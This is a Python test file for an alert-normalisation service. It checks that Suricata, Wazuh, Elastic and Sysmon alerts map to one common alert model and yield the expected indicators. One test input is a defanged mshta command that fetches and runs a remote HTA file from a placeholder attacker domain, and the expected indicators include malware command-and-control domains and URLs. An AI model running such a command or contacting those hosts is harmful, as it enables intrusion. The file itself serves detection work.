"""Each sensor format, from real samples, becomes the same Alert through the API as through the normalizer."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from flows.models import Alert
from flows.normalize import FieldMapping, Format, NormalizeError, detect, normalize
from flows.store import Store
from flows.tenants import tenants_from

from .conftest import key_headers

ALERTS = Path(__file__).parents[1] / "fixtures" / "alerts"


def _load(name: str) -> dict[str, Any]:
    return json.loads((ALERTS / name).read_text(encoding="utf-8"))


def _facts(alert: Alert) -> dict[str, Any]:
    return {
        "source": alert.source,
        "source_uid": alert.source_uid,
        "title": alert.finding_info.title,
        "hostname": alert.hostname,
        "ip": alert.device.ip if alert.device else None,
        "severity_id": alert.severity_id,
        "time": alert.time,
        "indicators": sorted((i.type.value, i.value) for i in alert.indicators()),
        "registry_values": sorted((r.key, r.name) for r in alert.registry_values()),
    }


CASES = [
    pytest.param(
        "suricata-eve-alert.json",
        Format.SURICATA,
        {
            "source": "Suricata",
            "title": "ET TROJAN MyKings Bot CnC Checkin",
            "ip": "10.20.30.47",
            "severity_id": 4,
            "time": 1563822847251,
        },
        {("ipv4", "66.117.6.174"), ("domain", "js.mykings.top"), ("url", "http://js.mykings.top:280/v.sct")},
        id="suricata",
    ),
    pytest.param(
        "suricata-eve-docs-example.json",
        Format.SURICATA,
        {"source": "Suricata", "ip": "192.168.2.14", "severity_id": 3},
        {("ipv4", "209.53.113.5")},
        id="suricata-docs",
    ),
    pytest.param(
        "wazuh-sysmon-run-key.json",
        Format.WAZUH,
        {"source": "Wazuh", "source_uid": "1761165327.2411377", "hostname": "ar-win-1", "severity_id": 5},
        {("file_path", "C:\\Windows\\System32\\reg.exe")},
        id="wazuh-sysmon",
    ),
    pytest.param(
        "wazuh-ssh-bruteforce.json",
        Format.WAZUH,
        {"source": "Wazuh", "source_uid": "1580123327.49031", "hostname": "wazuh-manager", "severity_id": 4},
        {("ipv4", "45.155.205.233"), ("account", "admin")},
        id="wazuh-sshd",
    ),
    pytest.param(
        "elastic-awk-breakout.json",
        Format.ELASTIC,
        {
            "source": "Elastic Security",
            "source_uid": "ddedd6a6c4ea61648972971f5602f024e16dd3f3d1f190ba1d1746e46e5129cc",
            "title": "Linux Restricted Shell Breakout via awk Commands",
            "severity_id": 3,
            "time": 1671791803160,
        },
        set(),
        id="elastic",
    ),
]


@pytest.mark.parametrize(("fixture", "fmt", "expected", "indicators"), CASES)
def test_each_format_normalizes_to_the_expected_alert(
    fixture: str, fmt: Format, expected: dict[str, Any], indicators: set[tuple[str, str]]
) -> None:
    raw = _load(fixture)

    normalized = normalize(raw, "demo")

    assert detect(raw) is fmt and normalized.format is fmt
    facts = _facts(normalized.alert)
    assert {key: facts[key] for key in expected} == expected
    assert indicators <= set(facts["indicators"])
    assert normalized.alert.tenant == "demo"


@pytest.mark.parametrize(("fixture", "fmt", "expected", "indicators"), CASES)
def test_the_api_stores_the_same_alert_and_keeps_the_original(
    client: TestClient, store: Store, fixture: str, fmt: Format, expected: dict[str, Any], indicators: set
) -> None:
    raw = _load(fixture)

    auto = client.post("/v1/alerts", headers=key_headers(), json=raw)
    explicit = client.post(f"/v1/alerts?format={fmt.value}", headers=key_headers(), json=raw)

    assert auto.status_code == 202, auto.text
    assert explicit.status_code == 200 and explicit.json()["duplicate"] is True
    [stored] = store.alert_documents(auto.json()["incident_id"])
    assert _facts(Alert.model_validate(stored)) == _facts(normalize(raw, "demo").alert)
    incident = store.incident(auto.json()["incident_id"])
    assert incident is not None
    assert indicators <= {(i.type, i.value) for i in incident.indicators}


def test_the_wazuh_registry_event_names_the_run_key_value() -> None:
    alert = normalize(_load("wazuh-sysmon-run-key.json"), "demo").alert

    [value] = alert.registry_values()
    assert value.key.endswith(r"\SOFTWARE\Microsoft\Windows\CurrentVersion\Run") and value.name == "softoz"


def test_generic_json_goes_through_the_tenants_field_mapping(client: TestClient, store: Store) -> None:
    raw = _load("sysmon-reg-add-run-key.json")

    unmapped = client.post("/v1/alerts", headers=key_headers(), json=raw)
    mapped = client.post("/v1/alerts?source=sysmon", headers=key_headers(), json=raw)

    assert unmapped.status_code == 422 and "unknown alert format" in unmapped.json()["detail"]
    assert mapped.status_code == 202, mapped.text
    incident = store.incident(mapped.json()["incident_id"])
    assert incident is not None and incident.hosts == ["ar-win-1"]
    assert incident.title == "Sysmon: reg.exe adds a Run key"
    values = {(i.type, i.value) for i in incident.indicators}
    assert ("registry_value", r"HKCU\SOFTWARE\Microsoft\Windows\CurrentVersion\Run") in values
    assert ("file_path", r"C:\Windows\System32\reg.exe") in values


def test_the_example_tenants_file_maps_sysmon_the_same_way() -> None:
    mapping = tenants_from(Path("flows/defaults/tenants.yaml")).get("demo").sources["sysmon"]  # type: ignore[union-attr]

    alert = normalize(_load("sysmon-reg-add-run-key.json"), "demo", mapping=mapping).alert

    assert alert.source == "sysmon" and alert.source_uid == "ar-win-1:256890" and alert.hostname == "ar-win-1"


@pytest.mark.parametrize(
    ("document", "fmt", "field"),
    [
        ({"event_type": "flow"}, Format.SURICATA, "alert"),
        ({"rule": {}}, Format.WAZUH, "rule"),
        ({"a": 1}, Format.ELASTIC, "kibana.alert"),
        ({"a": 1}, Format.GENERIC, "(source)"),
        ({"a": 1}, Format.AUTO, "(body)"),
        ({"class_uid": 2004, "metadata": {}}, Format.OCSF, "finding_info"),
    ],
)
def test_a_document_of_the_wrong_format_is_refused_naming_the_field(
    document: dict[str, Any], fmt: Format, field: str
) -> None:
    with pytest.raises(NormalizeError) as error:
        normalize(document, "demo", fmt)

    assert error.value.field == field


def test_defanged_urls_in_command_lines_become_indicators() -> None:
    mapping = FieldMapping(title={"const": "x"}, command_line="cmd")

    alert = normalize(
        {"cmd": "mshta hxxps://evil[.]example/a.hta & ping 203.0.113.9"}, "demo", mapping=mapping
    ).alert

    found = {(i.type.value, i.value) for i in alert.indicators()}
    assert {
        ("url", "https://evil.example/a.hta"),
        ("domain", "evil.example"),
        ("ipv4", "203.0.113.9"),
    } <= found
